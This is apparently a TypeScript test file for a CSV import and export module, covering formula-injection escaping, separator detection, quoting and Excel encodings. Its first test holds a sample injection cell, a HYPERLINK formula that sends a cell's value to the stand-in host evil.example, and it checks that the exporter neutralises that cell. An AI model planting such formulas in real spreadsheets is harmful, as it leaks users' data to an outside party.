import fc from 'fast-check';
import t from 'tap';
import { delimiterFor, parseTable, toCsv } from '../../src/ui/lib/csv.ts';
import { decodeTable } from '../../src/ui/lib/table-file.ts';

t.test('no exported cell can be run as a formula, and an import restores the text', async (t) => {
  const cells = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    "'=kept",
    "''-kept",
  ];
  const csv = toCsv(
    ['Title', '=Header'],
    cells.map((cell) => [cell, 'x']),
  );
  const lines = csv.slice(1).split('\r\n').slice(0, -1);
  for (const line of lines) t.notMatch(line, /(^|[,;])"?[=+\-@\t\r\n]/, line);
  const [, ...rows] = await parseTable(csv);
  t.strictSame(
    rows.map(([cell]) => cell),
    cells.map((cell) => cell.trim()),
  );
});

t.test('any table is read back as it was written, with either separator', async (t) => {
  const cell = fc.oneof(
    fc.string().map((text) => text.trim()),
    fc.constantFrom('a,b', 'a;b', '"quoted"', 'two\r\nlines', "'=1", '=1', 'Café 🎥'),
  );
  const rows = fc.array(fc.tuple(cell, cell, fc.constant('end')), { minLength: 1, maxLength: 20 });
  await fc.assert(
    fc.asyncProperty(rows, fc.constantFrom(',' as const, ';' as const), async (table, delimiter) => {
      const read = await parseTable(toCsv(['One', 'Two', 'Three'], table, delimiter));
      t.strictSame(read.slice(1), table);
    }),
    { numRuns: 300 },
  );
});

t.test('the separator is detected', async (t) => {
  const expected = [
    ['Title', 'URL'],
    ['Room A, 9:00; hall', 'rtmp://a/x'],
    ['Room B, 10:00', 'rtmp://b/y'],
  ];
  const [, first, second] = expected;
  for (const [name, text] of [
    ['tabs of a pasted spreadsheet', expected.map((row) => row.join('\t')).join('\n')],
    ['semicolons of German Excel', `Title;URL\r\n"${first?.[0]}";rtmp://a/x\r\n${second?.join(';')}\r\n`],
    ['commas', toCsv(expected[0] ?? [], expected.slice(1))],
    ['a declared one', `sep=|\r\n${expected.map((row) => row.join('|')).join('\r\n')}`],
    ['Mac line ends', expected.map((row) => row.join('\t')).join('\r')],
  ] as const)
    t.strictSame(await parseTable(text), expected, name);
});

t.test('a single column stays whole, even if some titles have commas', async (t) => {
  const text = 'Title\nTown hall, live\nOpening night\nClosing';
  t.strictSame(await parseTable(text), [['Title'], ['Town hall, live'], ['Opening night'], ['Closing']]);
  t.strictSame(await parseTable('82929473321'), [['82929473321']]);
  t.strictSame(await parseTable(''), []);
  t.strictSame(await parseTable('\ufeff\r\n\r\n'), []);
});

t.test('quoted line breaks, doubled quotes, empty rows and columns', async (t) => {
  const text =
    '\ufeffTitle;Key;;\r\n"Room ""A""\r\nupper floor";k1;;\r\n;;;\r\nRoom B;"k;2";;\r\n;;;\r\n\r\n;\r\n';
  t.strictSame(await parseTable(text), [
    ['Title', 'Key'],
    ['Room "A"\r\nupper floor', 'k1'],
    [],
    ['Room B', 'k;2'],
  ]);
});

t.test('quotes that a spreadsheet copied without escaping do not swallow rows', async (t) => {
  const text = 'Title\tKey\n"Best of" show\tk1\n5" screen\tk2\n"Open\tk3';
  t.strictSame(await parseTable(text), [
    ['Title', 'Key'],
    ['"Best of" show', 'k1'],
    ['5" screen', 'k2'],
    ['"Open', 'k3'],
  ]);
});

t.test('a title above the table does not hide its columns', async (t) => {
  const rows = await parseTable('Our streams, 2026\r\n\r\nTitle;URL;Key\r\nA;rtmp://a;1\r\nB;rtmp://b;2');
  t.strictSame(rows[2], ['Title', 'URL', 'Key']);
  t.strictSame(rows[4], ['B', 'rtmp://b', '2']);
});

t.test('the separator for a download is that of the language', async (t) => {
  t.strictSame(['en-US', 'de-DE', 'fr-FR', 'ja-JP'].map(delimiterFor), [',', ';', ';', ',']);
});

t.test('every encoding of Excel is decoded, and a workbook is recognized', async (t) => {
  const text = 'Title;Key\r\nZoë;k1\r\n';
  const utf16 = Buffer.from(text, 'utf16le');
  const swapped = Buffer.from(utf16).swap16();
  for (const [name, bytes] of [
    ['UTF-8', Buffer.from(text)],
    ['UTF-8 with mark', Buffer.from(`\ufeff${text}`)],
    ['UTF-16 with mark', Buffer.from(`\ufeff${text}`, 'utf16le')],
    ['UTF-16 big endian with mark', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
    ['UTF-16 without mark', utf16],
    ['UTF-16 big endian without mark', swapped],
    ['Windows 1252', Buffer.from(text, 'latin1')],
  ] as const)
    t.strictSame(decodeTable(new Uint8Array(bytes)), { text }, name);
  const zip = new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]);
  t.strictSame(decodeTable(zip), { error: 'spreadsheet' });
  t.strictSame(decodeTable(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0])), { error: 'spreadsheet' });
  t.strictSame(decodeTable(new Uint8Array([1, 0, 0, 0, 7])), { error: 'notText' });
  t.strictSame(decodeTable(new Uint8Array(4 * 1024 * 1024 + 1)), { error: 'tooLarge' });
});
